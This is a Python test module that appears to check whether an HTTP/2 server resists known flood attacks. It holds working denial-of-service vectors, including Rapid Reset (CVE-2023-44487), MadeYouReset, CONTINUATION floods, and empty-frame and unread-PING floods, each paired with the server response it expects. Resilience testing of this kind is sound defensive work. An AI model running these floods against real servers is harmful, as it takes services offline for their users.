"""Floods: many frames that cost the client nothing, each of a kind that once felled servers."""

from attack import *

CALM = "goaway ENHANCE_YOUR_CALM"

# A stream that is taken back may have been begun.
FEW = 150


def streams(count):
    return range(1, 2 * count, 2)


@vector(CALM, at_most=FEW)
def requests_that_are_taken_back(client):
    """CVE-2023-44487."""
    request = block(client.header())
    cancel = (8).to_bytes(4, "big")
    for stream in streams(20_000):
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, request), frame(RST_STREAM, 0, stream, cancel))
        if client.pushed_back:
            break
    return client.end()


@vector(CALM, at_most=FEW)
def requests_that_are_taken_back_one_after_the_other(client):
    """Each is waited for, so that there is never more than one of them to be read."""
    request = block(client.header())
    cancel = (8).to_bytes(4, "big")
    for stream in streams(20_000):
        client.send(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, request)
            + frame(RST_STREAM, 0, stream, cancel)
            + frame(PING, 0, 0, b"12345678")
        )
        outcome = until_it_is_answered(client)
        if outcome is not None:
            return outcome
    return "taken all"


def until_it_is_answered(client):
    """Reads up to the answer to a PING; how the connection ended, if it did."""
    while (came := client.read()) is not None:
        kind, _, _, payload = came
        if kind == GOAWAY:
            return f"goaway {named(int.from_bytes(payload[4:8], 'big'))}"
        if kind == PING:
            return None
    return "closed"


@vector("200", vms=1)
def requests_that_are_taken_back_in_the_same_breath(client):
    """Fewer than a flood has, so that the connection is kept: the VMS is asked for none of them but the last."""
    request = block(client.header())
    cancel = (8).to_bytes(4, "big")
    taken_back = [
        frame(HEADERS, END_HEADERS | END_STREAM, stream, request) + frame(RST_STREAM, 0, stream, cancel)
        for stream in streams(20)
    ]
    client.send(*taken_back, frame(HEADERS, END_HEADERS | END_STREAM, 41, request))
    return client.outcome(41)


@vector(CALM, at_most=FEW)
def bodies_that_are_taken_back(client):
    request = block(client.header(method="POST"))
    cancel = (8).to_bytes(4, "big")
    for stream in streams(20_000):
        client.send(
            frame(HEADERS, END_HEADERS, stream, request),
            frame(DATA, 0, stream, b"x"),
            frame(RST_STREAM, 0, stream, cancel),
        )
        if client.pushed_back:
            break
    return client.end()


@vector(CALM, at_most=FEW)
def streams_that_the_edge_has_to_end(client):
    """CVE-2025-8671: the client makes the server take requests back, by faults of its own."""
    request = block(client.header())
    for stream in streams(20_000):
        # A window of more than 2^31-1 ends the stream (RFC 9113, 6.9.1).
        client.send(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, request),
            frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"),
        )
        if client.pushed_back:
            break
    return client.end()


@vector(CALM, "closed", "goaway PROTOCOL_ERROR", at_most=0)
def headers_that_are_refused(client):
    request = block(client.header(("x-a", "1\n")))
    for stream in streams(20_000):
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, request))
        if client.pushed_back:
            break
    return client.end()


@vector(CALM)
def continuations_without_an_end(client):
    """CVE-2024-27316."""
    client.send(frame(HEADERS, END_STREAM, 1, block(client.header())))
    piece = block([("x-a", "1")])
    client.send(*(frame(CONTINUATION, 0, 1, piece) for _ in range(100_000)))
    return client.end()


@vector(CALM)
def empty_continuations_without_an_end(client):
    client.send(frame(HEADERS, END_STREAM, 1, block(client.header())))
    client.send(*(frame(CONTINUATION, 0, 1) for _ in range(100_000)))
    return client.end()


@vector(CALM, at_most=1)
def data_without_data(client):
    """CVE-2019-9518."""
    client.raw_request(client.header(method="POST"), flags=END_HEADERS)
    client.send(*(frame(DATA, 0, 1) for _ in range(100_000)))
    return client.end()


@vector(CALM, at_most=1)
def padding_without_data(client):
    client.raw_request(client.header(method="POST"), flags=END_HEADERS)
    client.send(*(frame(DATA, PADDED, 1, b"\x00") for _ in range(60_000)))
    return client.end()


def without_reading(client, frames):
    """Sends frames that are all answered, and reads none of the answers."""
    client.socket.settimeout(0.5)
    for _ in range(2_000):
        client.send(frames)
        if client.pushed_back:
            break
    return "not read" if isinstance(client.pushed_back, TimeoutError) else "closed"


@vector("not read", "closed")
def pings_whose_answers_are_not_read(client):
    """CVE-2019-9512: what nobody takes is not kept for him, so that no more of him is read."""
    return without_reading(client, frame(PING, 0, 0, b"12345678") * 1_000)


@vector("not read", "closed")
def settings_whose_acknowledgements_are_not_read(client):
    """CVE-2019-9515."""
    return without_reading(client, frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 1_000)


@vector("200", vms=1)
def priorities(client):
    """CVE-2019-9513: there is no tree of them any more to be turned over."""
    client.send(*(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(3, 20_003, 2)))
    client.raw_request(client.header())
    return client.outcome()


@vector("200", vms=1)
def acknowledgements_that_nobody_asked_for(client):
    client.send(*(frame(PING, ACK, 0, b"12345678") for _ in range(10_000)))
    client.raw_request(client.header())
    return client.outcome()


@vector("200", vms=1)
def windows_opened_by_one(client):
    client.send(*(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") for _ in range(50_000)))
    client.raw_request(client.header())
    return client.outcome()
